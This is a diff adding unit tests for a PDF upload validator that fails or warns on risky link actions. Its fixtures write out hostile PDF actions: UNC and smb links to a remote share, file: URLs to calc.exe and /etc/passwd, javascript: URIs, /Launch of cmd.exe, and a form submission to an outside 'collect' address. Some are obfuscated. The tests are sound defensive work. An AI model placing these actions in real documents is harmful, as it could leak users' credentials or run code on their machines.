@@ -317,6 +317,97 @@ describe('checkIntegrity: PDF', () => {
   });
 });
 
+describe('checkIntegrity: PDF actions', () => {
+  /** A page with a link annotation running `action`, the way a link is written (ISO 32000-2, 12.5.6.5). */
+  const linked = (action: string, extra: Part[][] = []) =>
+    document('', [['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /F 4 /A ' + action + ' >>'], ...extra]);
+
+  it('fails a link that opens a file on a network share with /GoToR (the issue), naming the target', () => {
+    // In PDF syntax `\\\\` is one backslash: the target is \\198.51.100.7\share\x.pdf.
+    const unc = '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)';
+    const r = checkIntegrity(linked(`<< /S /GoToR /F ${unc} /D [0 /Fit] >>`), 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
+    const target = JSON.stringify('\\\\198.51.100.7\\share\\x.pdf');
+    expect(r.detail.reason).toContain(`/GoToR (opens another file (a path or network share) to ${target})`);
+  });
+
+  it('fails /GoToR behind an escaped name, in a file specification dictionary, and inside an object stream', () => {
+    const escaped = linked('<< /S /GoT#6fR /F << /Type /Filespec /UF (//198.51.100.7/share/x.pdf) >> >>');
+    expect(checkIntegrity(escaped, 'application/pdf').detail.activeContent).toEqual(['GoToR']);
+    const hidden = Buffer.from('6 0 << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\a.pdf) >>');
+    const objStm = document('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(hidden))]);
+    const r = checkIntegrity(objStm, 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['GoToR'] } });
+    expect(r.detail.reason).toMatch(/in a FlateDecode stream at offset \d+/);
+  });
+
+  it.each([
+    ['UNC path', '(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)', 'a link to a file or network share'],
+    ['file: URL', '(file:///C:/Windows/System32/calc.exe)', 'a link to a file or network share'],
+    ['file: URL as a hex string', '<66696c653a2f2f2f6574632f706173737764>', 'a link to a file or network share'],
+    ['smb: URL written with octal escapes', '(\\163mb://198.51.100.7/share)', 'a link to a file or network share'],
+    ['javascript: URL', '(javascript:alert\\(1\\))', 'a link that is not to a web or mail address'],
+  ])('fails a /URI link to a %s', (_name, target, feature) => {
+    const r = checkIntegrity(linked(`<< /S /URI /URI ${target} >>`), 'application/pdf');
+    expect(r).toMatchObject({ result: 'fail', detail: { activeContent: ['URI'] } });
+    expect(r.detail.reason).toContain(feature);
+  });
+
+  it('warns about web and mail links and lists them for the reviewer', () => {
+    const web = 'https://find-and-update.company-information.service.gov.uk/';
+    const mail = 'mailto:help@example.com';
+    const links = linked(`<< /S /URI /URI (${web}) >>`, [[`<< /S /URI /URI (${mail}) >>`]]);
+    const r = checkIntegrity(links, 'application/pdf');
+    expect(r).toMatchObject({ result: 'warn', detail: { links: [web, mail], uninspectedStreams: 0 } });
+    expect(r.detail.reason).toMatch(/it links to 2 external addresses \(https:\/\/find-and-update/);
+  });
+
+  it('fails a /Launch action however its type is written, including one with only a /Win dictionary', () => {
+    const launch = linked('<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>');
+    const escaped = checkIntegrity(launch, 'application/pdf');
+    expect(escaped).toMatchObject({ result: 'fail', detail: { activeContent: ['Launch', 'Win'] } });
+    expect(escaped.detail.reason).toContain('to "cmd.exe"');
+    const indirectType = checkIntegrity(linked('<< /S 7 0 R /Win << /F (cmd.exe) >> >>'), 'application/pdf');
+    expect(indirectType).toMatchObject({ result: 'fail', detail: { activeContent: ['Win'] } });
+  });
+
+  // Every action type of ISO 32000-2 Table 201, with the decision of pdf-actions.ts.
+  it.each([
+    ['GoTo', '<< /S /GoTo /D [3 0 R /Fit] >>', 'pass'],
+    ['GoToDp', '<< /S /GoToDp /Dp 9 0 R >>', 'pass'],
+    ['Thread (this document)', '<< /S /Thread /D 0 >>', 'pass'],
+    ['Named NextPage', '<< /S /Named /N /NextPage >>', 'pass'],
+    ['Hide', '<< /S /Hide /T (field) /H true >>', 'pass'],
+    ['ResetForm', '<< /S /ResetForm >>', 'pass'],
+    ['SetOCGState', '<< /S /SetOCGState /State [/OFF 9 0 R] >>', 'pass'],
+    ['Trans', '<< /S /Trans /Trans << /S /Dissolve >> >>', 'pass'],
+    ['GoTo3DView', '<< /S /GoTo3DView /TA 9 0 R /V /F >>', 'pass'],
+    ['URI', '<< /S /URI /URI (https://example.com/) >>', 'warn'],
+    ['GoToR', '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>', 'fail'],
+    ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'fail'],
+    ['Thread (another file)', '<< /S /Thread /F (other.pdf) /D 0 >>', 'fail'],
+    ['Named Print (a viewer menu command)', '<< /S /Named /N /Print >>', 'fail'],
+    ['Launch', '<< /S /Launch /F (calc.exe) >>', 'fail'],
+    ['Sound', '<< /S /Sound /Sound 9 0 R >>', 'fail'],
+    ['Movie', '<< /S /Movie /T (clip) >>', 'fail'],
+    ['SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://198.51.100.7/collect) >> >>', 'fail'],
+    ['ImportData', '<< /S /ImportData /F (data.fdf) >>', 'fail'],
+    ['JavaScript', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>', 'fail'],
+    ['Rendition', '<< /S /Rendition /OP 0 /AN 9 0 R >>', 'fail'],
+    ['RichMediaExecute', '<< /S /RichMediaExecute /TA 9 0 R /CMD << >> >>', 'fail'],
+  ])('judges a link running %s: %s', (_name, action, result) => {
+    const r = checkIntegrity(linked(action), 'application/pdf');
+    expect(r.result).toBe(result);
+    if (result === 'pass') expect(r.detail.navigationActions).toBeGreaterThanOrEqual(1);
+  });
+
+  it('does not take page-label and structure styles (/S /D, /S /P) for actions', () => {
+    const labelled = document('/PageLabels << /Nums [0 << /S /D >>] >> ', [['<< /Type /StructElem /S /P >>']]);
+    const r = checkIntegrity(labelled, 'application/pdf');
+    expect(r).toMatchObject({ result: 'pass', detail: { navigationActions: 0 } });
+  });
+});
+
 describe('checkIntegrity: types', () => {
   it('fails a type it does not accept', () => {
     expect(checkIntegrity(VALID_PNG, 'image/gif')).toMatchObject({ result: 'fail', detail: { reason: expect.stringContaining('"image/gif" are not accepted') } });
